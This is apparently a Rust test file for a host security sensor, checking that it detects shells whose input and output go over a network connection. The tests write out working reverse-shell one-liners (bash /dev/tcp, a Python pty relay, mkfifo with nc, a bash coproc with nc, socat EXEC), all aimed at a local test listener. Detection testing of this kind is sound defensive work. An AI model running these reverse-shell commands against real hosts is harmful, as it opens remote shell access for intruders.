//! Shells whose input and output lead to a network: by a socket of their own, or by somebody who relays.

use crate::harness::{Quiet, has, is_exec_of, live, own, reap, text};
use quell_model::{Class, OwnedEvent};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};

/// Somebody who waits for a shell to call.
fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

fn is_shell_under(e: &OwnedEvent, pid: u32) -> bool {
    let ancestors = own(e, "process.ancestors");
    let under = ancestors.as_array().is_some_and(|list| list.iter().any(|a| a["pid"] == pid));
    e.head.class == Class::ProcessCreation && under && text(e, "process.command_line").contains("sh -i")
}

#[test]
fn a_shell_on_a_socket_names_its_peer() {
    let Some(live) = live() else { return };
    let (listener, port) = listener();
    let stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    let both: OwnedFd = stream.into();
    let child = Command::new("/bin/sh")
        .stdin(both.try_clone().unwrap())
        .stdout(both.try_clone().unwrap())
        .stderr(both)
        .spawn()
        .unwrap();
    let seen = live.log.wait("the shell", |e| is_exec_of(e, child.id()));
    assert_eq!(own(&seen, "process.stdio.socket"), true);
    assert_eq!(text(&seen, "process.stdio.peer"), format!("127.0.0.1:{port}"));
    assert_eq!(own(&seen, "process.stdio.kinds"), serde_json::json!(["socket", "socket", "socket"]));
    drop(listener);
    reap(child);
}

#[test]
fn bash_over_dev_tcp_is_on_a_socket() {
    let Some(live) = live() else { return };
    if !has("bash") {
        return;
    }
    let (listener, port) = listener();
    let line = format!("sh -i >& /dev/tcp/127.0.0.1/{port} 0>&1; :");
    let child = Command::new("bash").args(["-c", &line]).stdin(Stdio::null()).spawn().unwrap();
    let (caller, _) = listener.accept().unwrap();
    let seen = live.log.wait("the shell", |e| is_shell_under(e, child.id()));
    assert_eq!(own(&seen, "process.stdio.socket"), true);
    drop(caller);
    reap(child);
}

#[test]
fn a_shell_on_a_terminal_of_somebody_with_a_connection_is_relayed() {
    let Some(live) = live() else { return };
    if !has("python3") {
        return;
    }
    let (listener, port) = listener();
    let program = format!(
        "import socket,pty,os,select\ns=socket.create_connection(('127.0.0.1',{port}))\npid,m=pty.fork()\n\
         if pid==0: os.execv('/bin/sh',['sh','-i'])\ns.recv(1)\n"
    );
    let child = Command::new("python3").args(["-c", &program]).stdin(Stdio::null()).spawn().unwrap();
    let (caller, _) = listener.accept().unwrap();
    let seen = live.log.wait("the shell", |e| is_shell_under(e, child.id()));
    assert_eq!(own(&seen, "process.stdio.socket"), false);
    assert_eq!(own(&seen, "process.stdio.kinds"), serde_json::json!(["pty", "pty", "pty"]));
    assert_eq!(own(&seen, "process.stdio.relayed"), true);
    assert_eq!(own(&seen, "process.stdio.relay_pid"), own(&seen, "process.parent.pid"));
    assert_eq!(text(&seen, "process.stdio.relay_peer"), format!("127.0.0.1:{port}"));
    assert!(text(&seen, "process.stdio.relay_image").contains("python"));
    drop(caller);
    reap(child);
}

#[test]
fn a_connection_that_comes_after_its_shell_says_so() {
    let Some(live) = live() else { return };
    if !has("python3") {
        return;
    }
    let (listener, port) = listener();
    let dir = tempfile::tempdir().unwrap();
    let go = dir.path().join("go");
    rustix::fs::mknodat(rustix::fs::CWD, &go, rustix::fs::FileType::Fifo, rustix::fs::Mode::RWXU, 0).unwrap();
    // The connection is made when the test says so: after the sensor has told of the shell.
    let program = format!(
        "import socket,subprocess,sys\nsh=subprocess.Popen(['/bin/sh','-i'],stdin=-1,stdout=-1,stderr=-2,bufsize=0)\n\
         open(sys.argv[1]).read()\ns=socket.create_connection(('127.0.0.1',{port}))\ns.recv(1)\n"
    );
    let mut python = Command::new("python3");
    let child = python.args(["-c", &program]).arg(&go).stdin(Stdio::null()).spawn().unwrap();
    let shell = live.log.wait("the shell", |e| {
        e.head.class == Class::ProcessCreation && text(e, "process.command_line") == "/bin/sh -i" && {
            let ancestors = own(e, "process.ancestors");
            ancestors.as_array().is_some_and(|list| list.iter().any(|a| a["pid"] == child.id()))
        }
    });
    std::fs::write(&go, "").unwrap();
    let (caller, _) = listener.accept().unwrap();
    assert_eq!(own(&shell, "process.stdio.relayed"), false, "there was no connection yet");
    let seen = live.log.wait("the connection", |e| {
        e.head.class == Class::NetworkConnection && own(e, "network.destination_port") == port && {
            text(e, "network.direction") == "outbound"
        }
    });
    assert_eq!(own(&seen, "network.feeds_shell"), true);
    assert_eq!(own(&seen, "network.shell"), own(&shell, "process.id"));
    assert_eq!(own(&seen, "network.shell_pid"), own(&shell, "process.pid"));
    drop(caller);
    reap(child);
}

#[test]
fn a_pipeline_over_a_fifo_is_found_from_one_end_or_the_other() {
    let Some(live) = live() else { return };
    if !has("nc") {
        return;
    }
    let (listener, port) = listener();
    let dir = tempfile::tempdir().unwrap();
    let line = format!("mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} > f");
    let child =
        Command::new("/bin/sh").args(["-c", &line]).current_dir(dir.path()).stdin(Stdio::null()).spawn().unwrap();
    let (caller, _) = listener.accept().unwrap();
    // Which of the two is there first is a race: one of them sees the whole.
    live.log.wait("shell or connection that sees the whole", |e| {
        (is_shell_under(e, child.id()) && own(e, "process.stdio.relayed") == true)
            || (own(e, "network.destination_port") == port && own(e, "network.feeds_shell") == true)
    });
    drop(caller);
    reap(child);
}

#[test]
fn what_only_reads_from_the_network_is_not_relayed() {
    let Some(live) = live() else { return };
    if !has("nc") {
        return;
    }
    let (listener, port) = listener();
    let line = format!("nc 127.0.0.1 {port} | sh -i");
    let child = Command::new("/bin/sh").args(["-c", &line]).stdin(Stdio::null()).stdout(Stdio::null()).spawn().unwrap();
    let (caller, _) = listener.accept().unwrap();
    let seen = live.log.wait("the shell", |e| is_shell_under(e, child.id()));
    assert_eq!(own(&seen, "process.stdio.relayed"), false);
    drop(caller);
    reap(child);
}

/// Waits until the shell or the connection tells of the other, whichever came second.
fn seen_from_either_end(live: &Quiet, child: std::process::Child, listener: &TcpListener, port: u16) {
    let (caller, _) = listener.accept().unwrap();
    live.log.wait("shell or connection that sees the whole", |e| {
        let shell = own(e, "process.pid") == child.id() || is_shell_under(e, child.id());
        (shell && own(e, "process.stdio.relayed") == true)
            || (own(e, "network.destination_port") == port && own(e, "network.feeds_shell") == true)
    });
    drop(caller);
    reap(child);
}

#[test]
fn a_relay_that_is_the_shells_own_child_is_found() {
    let Some(live) = live() else { return };
    if !has("nc") || !has("bash") {
        return;
    }
    let (listener, port) = listener();
    let line = format!("coproc nc 127.0.0.1 {port}; exec sh -i <&${{COPROC[0]}} >&${{COPROC[1]}} 2>&1");
    let child = Command::new("bash").args(["-c", &line]).stdin(Stdio::null()).spawn().unwrap();
    seen_from_either_end(&live, child, &listener, port);
}

#[test]
fn a_relay_over_unix_sockets_is_found() {
    let Some(live) = live() else { return };
    if !has("socat") {
        return;
    }
    let (listener, port) = listener();
    let target = format!("TCP:127.0.0.1:{port}");
    let child = Command::new("socat").args([&target, "EXEC:sh -i,stderr"]).stdin(Stdio::null()).spawn().unwrap();
    seen_from_either_end(&live, child, &listener, port);
}
